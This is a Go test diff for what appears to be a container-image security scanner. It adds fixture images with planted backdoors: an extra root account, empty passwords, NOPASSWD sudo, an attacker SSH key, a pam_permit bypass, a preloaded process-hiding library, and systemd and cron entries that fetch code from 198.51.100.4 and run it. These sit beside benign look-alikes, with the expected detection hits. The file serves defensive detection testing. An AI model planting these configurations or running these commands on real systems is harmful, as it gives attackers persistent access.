@@ -196,6 +196,84 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 	rootOnly := img("test/root-only")
 	rootOnly.config = userSteps("0:0", "USER root", "/bin/sh -c #(nop) USER 0")
 	add(rootOnly)
+
+	// 13. What security configuration files say, each technique beside
+	// look-alikes that must not fire.
+	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJ5b2d1cy1rZXktZm9yLXRlc3RzLW9ubHk attacker@c2\n"
+	add(img("test/accounts", layerOf(t,
+		ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\nguest:x:1001:1001::/home/guest:/bin/sh\n" +
+			"svc:x:999:999::/nonexistent:/usr/sbin/nologin\nlocked:x:1002:1002::/home/l:/bin/sh\n"},
+		ent{name: "etc/shadow", body: "root:*:19000:0:99999:7:::\ntoor:$6$salt$hash:19000::::::\nguest::19000::::::\nsvc::19000::::::\nlocked:!:19000::::::\n"},
+		ent{name: "etc/sudoers.d/ci", body: "# ci ALL=(ALL) NOPASSWD: ALL\ndeploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n%wheel ALL=(ALL) ALL\nci ALL=(ALL) NOPASSWD:ALL\n"},
+		ent{name: "root/.ssh/authorized_keys", body: "# keys\n" + key})),
+		hit{rule: "account-extra-uid0", path: "/etc/passwd", layer: 1},
+		hit{rule: "account-empty-password", path: "/etc/passwd", layer: 1},
+		hit{rule: "sudo-nopasswd-all", path: "/etc/sudoers.d/ci", layer: 1},
+		hit{rule: "ssh-authorized-keys", path: "/root/.ssh/authorized_keys", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/sudoers.d/ci", layer: 1},
+		hit{rule: "persistence-point", path: "/root/.ssh/authorized_keys", layer: 1})
+
+	// sshd reads the drop-in before the main file's own line: root may log
+	// in. In test/sshd-ok the main file's "no" comes before its Include.
+	add(img("test/sshd", layerOf(t,
+		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\n# PermitEmptyPasswords yes\n"},
+		ent{name: "etc/ssh/sshd_config.d/10-cloud.conf", body: "PermitRootLogin yes\n"})),
+		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config.d/10-cloud.conf", layer: 1})
+	add(img("test/sshd-ok", layerOf(t,
+		ent{name: "etc/ssh/sshd_config", body: "PermitRootLogin no\nInclude /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n"},
+		ent{name: "etc/ssh/sshd_config.d/10-cloud.conf", body: "PermitRootLogin yes\n"})))
+
+	// A PAM backdoor beside Debian's stock common-auth.
+	add(img("test/pam", layerOf(t,
+		ent{name: "etc/pam.d/common-auth", body: "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n"},
+		ent{name: "etc/pam.d/sshd", body: "auth sufficient pam_permit.so\n@include common-auth\n"},
+		ent{name: "etc/pam.d/login", body: "auth required /usr/lib/x86_64-linux-gnu/security/pam_unix.so\nauth required /tmp/.p/pam_unix.so\n"})),
+		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/sshd", layer: 1},
+		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/login", layer: 1})
+
+	// Autostart that fetches code, whatever it is called; a stock cron job
+	// and a unit that only runs a local binary are not.
+	add(img("test/autostart", layerOf(t,
+		ent{name: "etc/systemd/system/netsync.service", body: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.4/s | bash'\n"},
+		ent{name: "etc/systemd/system/app.service", body: "[Service]\nExecStart=/usr/local/bin/app --listen :8080\n"},
+		ent{name: "var/spool/cron/crontabs/www-data", body: "*/10 * * * * wget -q -O /tmp/.x http://198.51.100.4/a && chmod +x /tmp/.x && /tmp/.x\n"},
+		ent{name: "etc/profile.d/motd.sh", body: "# curl http://example.com | sh\necho hello\n"})),
+		hit{rule: "autostart-fetches-code", path: "/etc/systemd/system/netsync.service", layer: 1},
+		hit{rule: "autostart-fetches-code", path: "/var/spool/cron/crontabs/www-data", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/systemd/system/netsync.service", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/systemd/system/app.service", layer: 1},
+		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/www-data", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/profile.d/motd.sh", layer: 1})
+
+	// A preloaded library (persistence-point's), a command run on module
+	// load; blacklisting and install-to-true are normal.
+	add(img("test/loader", layerOf(t,
+		ent{name: "etc/ld.so.preload", body: "/usr/lib/libprocesshider.so\n"},
+		ent{name: "etc/modprobe.d/local.conf", body: "blacklist pcspkr\ninstall usb-storage /bin/true\ninstall dummy /tmp/.m.sh\n"})),
+		hit{rule: "persistence-point", path: "/etc/ld.so.preload", layer: 1},
+		hit{rule: "kernel-module-autoload", path: "/etc/modprobe.d/local.conf", layer: 1})
+
+	// Name resolution and package sources: a mirror and the image's own pip
+	// index redirected, an unsigned apt source, a pip index over HTTP; apt
+	// over plain HTTP (signed) and localhost are normal.
+	add(img("test/sources", layerOf(t,
+		ent{name: "etc/hosts", body: "127.0.0.1 localhost\n198.51.100.7 deb.debian.org\n198.51.100.8 pypi.internal\n"},
+		ent{name: "etc/apt/sources.list", body: "deb http://deb.debian.org/debian bookworm main\n"},
+		ent{name: "etc/apt/sources.list.d/tools.list", body: "deb [trusted=yes] https://tools.example/apt ./\n"},
+		ent{name: "etc/pip.conf", body: "[global]\nindex-url = http://pypi.internal/simple\n"})),
+		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
+		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
+		hit{rule: "package-source-untrusted", path: "/etc/apt/sources.list.d/tools.list", layer: 1},
+		hit{rule: "package-source-plain-http", path: "/etc/pip.conf", layer: 1})
+
+	// History turned off; an ordinary HISTSIZE and a comment are not.
+	add(img("test/history-off", layerOf(t,
+		ent{name: "root/.bashrc", body: "HISTSIZE=1000\n# unset HISTFILE\nexport HISTFILE=/dev/null\n"},
+		ent{name: "etc/sudoers.d/big", body: "x ALL=(ALL) ALL # " + strings.Repeat("a", 20000) + "\n"})),
+		hit{rule: "shell-history-disabled", path: "/root/.bashrc", layer: 1},
+		hit{rule: "persistence-point", path: "/root/.bashrc", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/sudoers.d/big", layer: 1},
+		hit{rule: "security-config-unreadable", path: "/etc/sudoers.d/big", layer: 1})
 	return imgs, want
 }
 
